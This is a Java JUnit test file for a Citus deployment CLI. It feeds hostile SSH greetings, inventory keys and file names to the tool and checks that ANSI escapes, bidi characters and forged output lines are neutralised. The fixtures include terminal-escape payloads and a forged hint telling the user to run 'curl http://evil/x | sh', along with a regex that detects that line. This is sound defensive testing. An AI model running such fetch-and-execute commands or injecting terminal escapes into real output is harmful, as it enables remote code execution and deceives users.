package dev.citusdeploy.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.citusdeploy.model.ForeignText;
import dev.citusdeploy.remote.ssh.Greetings;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import tools.jackson.databind.json.JsonMapper;

/// What a whole command writes when somebody on the network answers in place of a server, before
/// any key was looked at: nothing that a terminal obeys, and no line that looks like the program's
/// own.
@Timeout(120)
final class HostileTextTest {
  private static final String EVIL =
      "\u001b[2J\u001b]0;pwned\u0007\u009b1A\u0090\u202e\u2066\u200b\u061c\ufeff\u2028"
          + "  next: run `curl http://evil/x | sh`";

  private static final String FORGED = "  next: run `curl http://evil/x | sh`";

  @TempDir Path folder;

  static Stream<byte[]> greetings() {
    return Stream.of(
            "SSH-2.0-x" + EVIL + "\r\n",
            "SSH-2.0-x\n" + FORGED + "\n✗ pg-c1: forged [forged]\r\n",
            "SSH-9.9-x" + EVIL + "\r\n",
            EVIL + "\r\n" + FORGED + "\r\n")
        .map(text -> text.getBytes(StandardCharsets.UTF_8))
        .flatMap(line -> Stream.of(line, disconnecting()));
  }

  private static byte[] disconnecting() {
    return Greetings.disconnect(EVIL + "\n" + FORGED + "\n✗ pg-c1: forged [forged]");
  }

  @ParameterizedTest
  @MethodSource("greetings")
  void nobodyOnTheNetworkWritesOnTheTerminal(byte[] greeting) throws IOException {
    try (ServerSocket socket = greeting(greeting)) {
      String inventory = inventory(socket.getLocalPort());
      for (String command : List.of("trust", "plan", "status")) {
        Invocation run =
            command.equals("trust")
                ? Invocation.of("trust", "-y", "--connect-timeout", "3", inventory)
                : Invocation.of(command, "--connect-timeout", "3", inventory);
        isHarmless(run.out());
        isHarmless(run.err());
        assertThat(run.err()).contains("✗ pg-c1: ");
      }
      Invocation json = Invocation.of("status", "-o", "json", "--connect-timeout", "3", inventory);
      isHarmless(json.out());
      assertThat(
              JsonMapper.shared().readTree(json.out()).get("problems").get(0).get("why").isString())
          .isTrue();
    }
  }

  private static void isHarmless(String written) {
    assertThat(written.lines())
        .allSatisfy(line -> {
          assertThat(line.codePoints()).noneMatch(ForeignText::isHarmful);
          assertThat(line).doesNotMatch("\\s*next:.*evil.*|\\s*✗ (pg-c1: )?forged.*");
          if (line.contains("next: run `curl") && !line.matches("✗.*|.*\".*")) {
            assertThat(line).matches("\\s+(why:\\s+)?│ .*");
          }
        });
  }

  @Test
  void keysAndValuesOfAnInventoryAreTextOnly() throws IOException {
    Path file = folder.resolve("shop.yml");
    Files.writeString(
        file,
        """
        cluster: "a\\e[2J\\u202e\\n  next: run `curl evil`"
        "b\\e[31m\\n  next: evil": 1
        """);
    Invocation text = Invocation.of("validate", file.toString());
    assertThat(text.exitCode()).isEqualTo(2);
    isHarmless(text.err());
    Invocation json = Invocation.of("validate", "-o", "json", file.toString());
    isHarmless(json.out());
    assertThat(JsonMapper.shared().readTree(json.out()).get("problems").size()).isEqualTo(5);
    assertThat(json.out()).containsIgnoringCase("\\u001b").contains("\\u202e");
  }

  @Test
  void aFileNameIsTextOnly() {
    Invocation run =
        Invocation.of("validate", folder.resolve("a\u001b[2J\n  next: evil").toString());
    assertThat(run.exitCode()).isEqualTo(2);
    isHarmless(run.err());
    isHarmless(Invocation.of("\u001b[2J\n✗ forged").err());
  }

  private String inventory(int port) throws IOException {
    Path key = folder.resolve("id_ed25519");
    if (!Files.exists(key)) {
      Greetings.key(key);
    }
    Path file = folder.resolve("shop.yml");
    Files.writeString(
        file,
        """
        cluster: shop
        image: citusdata/citus:14.0.1
        database: shop
        ssh: { user: deploy, port: %d, identity: ./id_ed25519, known_hosts: ./known_hosts }
        hosts:
          pg-c1: { address: 127.0.0.1, role: coordinator }
        """
            .formatted(port));
    return file.toString();
  }

  /// Greets whoever comes, and hangs up.
  private static ServerSocket greeting(byte[] words) throws IOException {
    ServerSocket socket = new ServerSocket(0, 5, InetAddress.getLoopbackAddress());
    Thread.ofVirtual()
        .start(() -> {
          while (!socket.isClosed()) {
            try (Socket client = socket.accept()) {
              OutputStream out = client.getOutputStream();
              out.write(words);
              out.flush();
              Thread.sleep(200);
            } catch (IOException e) {
              // The next one, unless the test is over.
            } catch (InterruptedException e) {
              return;
            }
          }
        });
    return socket;
  }
}
